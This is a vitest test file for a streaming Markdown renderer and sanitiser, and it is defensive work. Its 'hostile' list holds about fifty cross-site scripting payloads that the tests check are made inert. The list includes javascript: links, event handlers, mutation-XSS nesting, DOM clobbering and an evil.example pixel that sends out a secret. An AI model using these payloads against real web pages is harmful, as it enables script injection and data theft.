import { Marked } from 'marked';
import { describe, expect, test, vi } from 'vitest';

import { addedText, Rendering, sanitised, webPage } from './markdown';

function shown(markdown: string): HTMLElement {
  const page = document.createElement('div');
  for (const block of new Rendering().update(markdown, true)) page.append(sanitised(block));
  return page;
}

/** What no answer may ever put into the page. */
function expectHarmless(page: HTMLElement): void {
  for (const element of page.querySelectorAll('*')) {
    expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    expect(element.localName).toMatch(
      /^(p|br|hr|h[1-6]|strong|em|del|code|pre|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|a|small)$/,
    );
    for (const { name, value } of element.attributes) {
      expect(['href', 'title', 'align', 'start']).toContain(name);
      if (name === 'href') expect(value).toMatch(/^https?:\/\//);
    }
  }
}

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<style>@import "https://evil.example/a.css"; * { display: none }</style>',
  '<p style="background:url(https://evil.example/a.png)">x</p>',
  '<div onclick=alert(1) class=a id=b data-a=c>x</div>',
  '<object data="javascript:alert(1)"></object><embed src="data:text/html,x">',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<a href="javascript:alert(1)" target=_top onfocus=alert(1) autofocus>x</a>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](https://user:pass@evil.example/)',
  '[x](https://evil.example "\\" onmouseover=alert(1) \\"")',
  '![x](https://evil.example/pixel.png?secret=1)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  '<javascript:alert(1)>',
  '`<script>alert(1)</script>`',
  '```html"onmouseover="alert(1)\n<script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| <script>x</script> | y |',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<select><template><style></select><img src=x onerror=alert(1)></style></template></select>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<a name=body id=createElement>x</a><form id=attributes><input name=nodeName>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

describe('hostile answers', () => {
  test.each(hostile)('%s is shown and does nothing', (markdown) => {
    expectHarmless(shown(markdown));
    expectHarmless(shown(`a ${markdown} b\n\n> ${markdown}`));
  });

  test.each(hostile)('%s is harmless in the sanitiser alone', (html) => {
    const page = document.createElement('div');
    page.append(sanitised(html));
    expectHarmless(page);
  });

  test.each(hostile)('%s is harmless at every step of its way', (markdown) => {
    const rendering = new Rendering();
    for (let end = 1; end <= markdown.length; end += 1) {
      for (const block of rendering.update(markdown.slice(0, end), false)) {
        const page = document.createElement('div');
        page.append(sanitised(block));
        expectHarmless(page);
      }
    }
  });
});

describe('Markdown', () => {
  test('raw HTML is shown as it was written', () => {
    expect(shown('before <b onclick=x>bold</b> after').textContent).toContain(
      '<b onclick=x>bold</b>',
    );
  });

  test('a link carries its whole address beside its words', () => {
    const page = shown('[our site](https://evil.example/a?b=c)');
    const anchor = page.querySelector('a');
    expect(anchor?.getAttribute('href')).toBe('https://evil.example/a?b=c');
    expect(anchor?.title).toBe('https://evil.example/a?b=c');
    expect(anchor?.hasAttribute('target')).toBe(false);
    expect(page.textContent).toContain('our site (https://evil.example/a?b=c)');
  });

  test('a link whose words are another address shows where it leads', () => {
    const page = shown('[https://bank.example](https://evil.example)');
    expect(page.textContent).toContain('(https://evil.example/)');
  });

  test('letters that look alike are shown as what they are', () => {
    expect(webPage('https://раураl.example/')).toBe('https://xn--l-7sba6dbr.example/');
  });

  test('a bare address stands alone', () => {
    expect(shown('https://example.com/a').textContent?.trim()).toBe('https://example.com/a');
  });

  test('a picture becomes a link with its words', () => {
    const page = shown('![a chart](https://example.com/chart.png)');
    expect(page.querySelector('img')).toBeNull();
    expect(page.querySelector('a')?.textContent).toBe('a chart');
  });

  test('code, lists and tables come through', () => {
    const page = shown('# T\n\n1. a\n2. b\n\n```rust\nfn main() {}\n```\n\n|a|b|\n|-|-:|\n|1|2|');
    expect(page.querySelector('h1')?.textContent).toBe('T');
    expect(page.querySelectorAll('li')).toHaveLength(2);
    expect(page.querySelector('pre code')?.textContent).toBe('fn main() {}\n');
    expect(page.querySelectorAll('td')).toHaveLength(2);
  });
});

describe('a growing text', () => {
  const text =
    'One *two*.\n\nThree\n===\n\n- a\n\n  b\n- c\n\n1. x\n2. y\n\n```js\nlet a = 1;\n\nlet b;\n```\n\n' +
    '|a|b|\n|-|-|\n|1|2|\n\n> quote\nlazy\n\n---\n\nlast [link](https://example.com)\r\nend';

  test('ends as the same text rendered at once, cut anywhere', () => {
    const whole = new Rendering().update(text, true);
    for (const step of [1, 2, 3, 7, 40]) {
      const rendering = new Rendering();
      for (let end = step; end < text.length; end += step)
        rendering.update(text.slice(0, end), false);
      expect(rendering.update(text, false)).toEqual(whole);
    }
  });

  test('says at every step what the same text says by itself', () => {
    const words =
      'A long line that goes on and on, with a_name_b, **bold words** and *more* of them, see ' +
      'www.example.com or https://example.com/a.b or a@b.example for 3 < 4 & 5 > 2, `code` and ' +
      "don't [a link](https://example.com) go\n- but this is one\n\n" +
      '[a label that is as long as that]: https://example.com/x and what comes after it, and so on\n' +
      'setext it is, for certain, is it not\n-----------------------------\nend of it, with words!';
    for (const step of [1, 2, 3, 5, 11]) {
      const rendering = new Rendering();
      for (let end = step; end < words.length; end += step) {
        const part = words.slice(0, end);
        expect(rendering.update(part, false)).toEqual(new Rendering().update(part, false));
      }
    }
  });

  test('adds words to a paragraph without parsing it again', () => {
    const rendering = new Rendering();
    const before = rendering.update('A paragraph with **some** words in it', false).at(-1) ?? '';
    const parser = vi.spyOn(Marked.prototype, 'lexer');
    const after = rendering.update('A paragraph with **some** words in it, and more', false);
    expect(parser).not.toHaveBeenCalled();
    expect(addedText(before, after.at(-1) ?? '')).toBe(', and more');
  });

  test.each([
    ['<p>a <em>b</em></p>\n', '<p>a <em>b</em> c</p>\n', null],
    ['<p>a b</p>\n', '<p>a b &amp; c&#39;s</p>\n', " & c's"],
    ['<p>a b</p>\n', '<p>a b <em>c</em></p>\n', null],
    ['<p>a b</p>\n', '<p>a</p>\n', null],
    ['<h1>a</h1>\n', '<h1>a b</h1>\n', null],
    ['', '<p>a</p>\n', null],
  ])('from %j to %j is %j more', (before, next, added) => {
    expect(addedText(before, next)).toBe(added);
  });

  test('leaves the blocks alone that are done', () => {
    const rendering = new Rendering();
    const before = rendering.update('One.\n\nTwo.\n\nThr', false)[0];
    const after = rendering.update('One.\n\nTwo.\n\nThree.\n\nFour', false);
    expect(after[0]).toBe(before);
    expect(after).toHaveLength(4);
  });

  test('does not parse again at its end what it has parsed on the way', () => {
    const rendering = new Rendering();
    rendering.update(
      'One is a paragraph of plain words.\n\nTwo is **another** one, which goes',
      false,
    );
    const parser = vi.spyOn(Marked.prototype, 'lexer');
    rendering.update(
      'One is a paragraph of plain words.\n\nTwo is **another** one, which goes on',
      true,
    );
    expect(parser).not.toHaveBeenCalled();
  });

  test('finds a definition that comes last once it is whole', () => {
    const rendering = new Rendering();
    rendering.update('See [this].\n\nMore.\n\n', false);
    rendering.update('See [this].\n\nMore.\n\n[this]: https://example.com/x', false);
    const blocks = rendering.update('See [this].\n\nMore.\n\n[this]: https://example.com/x', true);
    expect(blocks[0]).toContain('https://example.com/x');
  });

  test('starts anew for another text', () => {
    const rendering = new Rendering();
    rendering.update('One.\n\nTwo.\n\nThree', false);
    expect(rendering.update('Other', false)).toEqual(['<p>Other</p>\n']);
  });

  test('takes five thousand pieces without parsing what is done again', () => {
    const rendering = new Rendering();
    let whole = '';
    const began = performance.now();
    for (let piece = 0; piece < 5_000; piece += 1) {
      whole += piece % 20 === 19 ? 'end.\n\n' : `word **${piece}** `;
      rendering.update(whole, false);
    }
    expect(rendering.blocks).toHaveLength(250);
    expect(performance.now() - began).toBeLessThan(5_000);
  });
});

test('a list begins where it was numbered, and columns stand as they were set', () => {
  const page = shown('3. third\n4. fourth\n\n| a | b |\n|--:|:-:|\n| 1 | 2 |\n');
  expect(page.querySelector('ol')?.getAttribute('start')).toBe('3');
  expect([...page.querySelectorAll('td')].map((cell) => cell.getAttribute('align'))).toEqual([
    'right',
    'center',
  ]);
});
